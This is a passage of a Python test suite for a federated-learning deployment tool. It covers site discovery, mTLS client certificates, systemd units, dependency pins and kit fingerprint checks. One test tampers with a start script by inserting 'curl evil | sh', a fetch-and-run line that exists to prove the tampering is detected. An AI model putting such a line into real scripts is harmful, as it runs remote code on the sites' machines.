        manifest = default_site_manifest(site, country="DE").model_dump_json()
        query = Message(
            RecordDict({"config": ConfigRecord({})}),
            dst_node_id=node,
            message_type=MessageType.QUERY,
        )
        return Message(
            RecordDict(
                {
                    "site": ConfigRecord(
                        {"site-id": site, "site-index": 0, "manifest-json": manifest}
                    )
                }
            ),
            reply_to=query,
        )

    class Grid:
        def get_node_ids(self):
            return [11, 22, 33]

        def send_and_receive(self, msgs, timeout):
            return [reply_from(11, "site-a"), reply_from(22, "site-a"), reply_from(33, "site-z")]

    for attr in ("_task_id", "_run_id", "_node_id"):  # as tests/server/test_strategy.py
        monkeypatch.setattr(TaskIdentity, attr, 1)
    path = tmp_path / "node-ids.txt"
    write_registry(
        path, {"site-a": Entry("site-a", 11, "SHA256:a"), "site-b": Entry("site-b", 22, "SHA256:b")}
    )
    monkeypatch.setenv(REGISTRY_ENV, str(path))
    cfg = RunConfig.from_flat({"sites": 3, "node-wait-s": 0.1})
    sites, manifests, problems = discover_sites(Grid(), cfg, ConfigRecord({}))
    assert sites == {11: "site-a"} and list(manifests) == ["site-a"]
    assert "registered for 'site-b'" in problems["node-22"]
    assert "not registered for any site" in problems["node-33"]


# ---- the SuperNode presents the site's client certificate -----------------------------------
def _mtls_server(cert: Path, key: Path, ca: Path, seen: list[str]) -> int:
    import socket

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    ctx.load_verify_locations(ca)
    ctx.verify_mode = ssl.CERT_REQUIRED
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(4)
    sock.settimeout(20)

    def serve() -> None:
        with sock:
            for _ in range(4):
                try:
                    conn, _ = sock.accept()
                except OSError:
                    return
                try:
                    with ctx.wrap_socket(conn, server_side=True) as tls:
                        subject = dict(x[0] for x in tls.getpeercert()["subject"])
                        seen.append(subject["commonName"])
                        data = b""
                        while b"\r\n\r\n" not in data:  # read the whole request before
                            data += tls.recv(65536)  # answering (no RST on close)
                        head, _, body = data.partition(b"\r\n\r\n")
                        length = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
                        while len(body) < length:
                            body += tls.recv(65536)
                        tls.sendall(
                            b"HTTP/1.1 200 OK\r\nContent-Type: application/protobuf\r\n"
                            b"Content-Length: 0\r\nConnection: close\r\n\r\n"
                        )
                except (ssl.SSLError, OSError):
                    seen.append("refused")

    threading.Thread(target=serve, daemon=True).start()
    return sock.getsockname()[1]


def test_supernode_launcher_presents_the_client_certificate(tmp_path, monkeypatch):
    from flwr.supernode.fleet_http_client import FleetHttpClient

    from fedmeta.deploy import supernode

    _, kits = make(tmp_path)
    site = tmp_path / "state/site-de-01"
    coord = kits / "coordinator"
    seen: list[str] = []
    port = _mtls_server(coord / "superlink.pem", coord / "superlink.key", kits / "ca/ca.pem", seen)
    assert "from_server_address" not in FleetHttpClient.__dict__  # inherited, as shipped
    try:
        _launcher_checks(FleetHttpClient, supernode, site, port, seen, monkeypatch)
    finally:
        if "from_server_address" in FleetHttpClient.__dict__:
            del FleetHttpClient.from_server_address


def _launcher_checks(FleetHttpClient, supernode, site, port, seen, monkeypatch):  # noqa: N803
    import httpx
    from flwr.proto.run_pb2 import GetRunRequest

    ca = (site / "ca.pem").read_bytes()
    # stock Flower: no client certificate, refused
    with (
        FleetHttpClient.from_server_address(f"127.0.0.1:{port}", False, ca, []) as client,
        pytest.raises((httpx.HTTPError, ssl.SSLError)),
    ):
        client.GetRun(GetRunRequest(run_id=1))
    # the launcher's hook: the site's certificate, the server still verified against ca.pem
    supernode.install_client_certificate(site / "client.pem", site / TLS_KEY)
    with FleetHttpClient.from_server_address(f"127.0.0.1:{port}", False, ca, []) as client:
        client.GetRun(GetRunRequest(run_id=1))
    assert seen == ["refused", "site-de-01"]
    # a Flower whose hook looks different: refuse to start rather than go without the cert
    FleetHttpClient.from_server_address = classmethod(lambda cls, address: None)
    with pytest.raises(supernode.LauncherError, match="cannot add the TLS client certificate"):
        supernode.install_client_certificate(site / "client.pem", site / TLS_KEY)
    monkeypatch.delenv(TLS_CLIENT_CERT_ENV, raising=False)
    assert supernode.main(["--superlink", "127.0.0.1:1"]) == 2


# ---- operable by a hospital's IT: units, versions, kit transfer -----------------------------
def test_systemd_units_outlast_flowers_lockout_and_kill_the_whole_group(tmp_path):
    import configparser

    _, kits = make(tmp_path)
    units = [
        kits / "coordinator/systemd/fedmeta-superlink.service",
        kits / "coordinator/systemd/fedmeta-proxy.service",
        kits / "sites/site-de-01/systemd/fedmeta-node.service",
        tmp_path / "state/site-de-01/systemd/fedmeta-node.service",
    ]
    for path in units:
        unit = configparser.ConfigParser(interpolation=None, strict=False)
        unit.read_string(path.read_text())
        service = unit["Service"]
        assert int(service["RestartSec"]) > 60, path  # Flower's error-2004 lockout is ~60 s
        assert service["KillMode"] == "control-group" and service["Restart"] == "on-failure"
        assert unit["Unit"]["StartLimitIntervalSec"] == "0"
        script = service["ExecStart"].removeprefix("@DIR@/")
        assert (path.parent.parent / script).exists(), path
    import shutil

    if shutil.which("systemd-analyze"):
        filled = tmp_path / "fedmeta-node.service"
        filled.write_text(
            units[2]
            .read_text()
            .replace("@DIR@", str(tmp_path))
            .replace("@VENV@", sys.prefix)
            .replace("@USER@", "root")
        )
        res = subprocess.run(
            ["systemd-analyze", "verify", str(filled)], capture_output=True, text=True, timeout=60
        )
        assert "RestartSec" not in res.stderr and "KillMode" not in res.stderr, res.stderr


def test_constraints_pin_the_installed_release(tmp_path):
    from importlib import metadata

    _, kits = make(tmp_path)
    text = (kits / "sites/site-de-01/constraints.txt").read_text()
    assert text == (kits / "coordinator/constraints.txt").read_text()
    pins = dict(line.split("==") for line in text.splitlines() if not line.startswith("#"))
    for dist in ("fedmeta", "flwr", "opacus", "torch", "numpy", "cryptography", "pydantic"):
        assert pins[dist] == metadata.version(dist).split("+")[0], dist
    assert "httpx" in pins  # transitive (Flower's), not only fedmeta's own requirements
    assert not [k for k in pins if k in ("pytest", "hypothesis", "ruff")]  # no dev extras


def test_kit_fingerprint_detects_any_change(tmp_path):
    from fedmeta.deploy.kits import ProvisionError, verify_kit

    fed = tmp_path / "federation.toml"
    fed.write_text(FED)
    kits = tmp_path / "kits"
    report = provision(fed, kits)
    prints = dict(line.split() for line in (kits / "fingerprints.txt").read_text().splitlines())
    assert prints == report.fingerprints and set(prints) == {
        "coordinator",
        "site-de-01",
        "site-in-01",
    }
    kit = kits / "sites/site-de-01"
    verify_kit(kit, prints["site-de-01"])
    assert init_site(tmp_path / "s", kit, fingerprint=prints["site-de-01"]).request
    with pytest.raises(ProvisionError, match="fingerprint"):
        verify_kit(kit, prints["site-in-01"])  # another kit
    script = kit / "start-node.sh"
    original = script.read_bytes()
    script.write_bytes(original.replace(b"exec fedmeta", b"curl evil | sh; exec fedmeta"))
    with pytest.raises(ProvisionError, match="start-node.sh: missing or altered"):
        verify_kit(kit, prints["site-de-01"])
    script.write_bytes(original)
    (kit / "extra.sh").write_text("echo\n")
    with pytest.raises(ProvisionError, match="extra.sh: not part of the kit"):
        verify_kit(kit, prints["site-de-01"])
    res = CliRunner().invoke(
        app,
        [
            "node",
            "init",
            str(tmp_path / "t"),
            "--kit",
            str(kit),
            "--fingerprint",
            prints["site-de-01"],
        ],
    )
    assert res.exit_code == 2 and "not part of the kit" in res.output
    assert not (tmp_path / "t").exists()  # refused before anything was laid out
    # the coordinator kit running in place (state/) keeps its fingerprint
    (kits / "coordinator/state").mkdir()
    (kits / "coordinator/state/superlink.db").write_bytes(b"x")
    verify_kit(kits / "coordinator", prints["coordinator"])
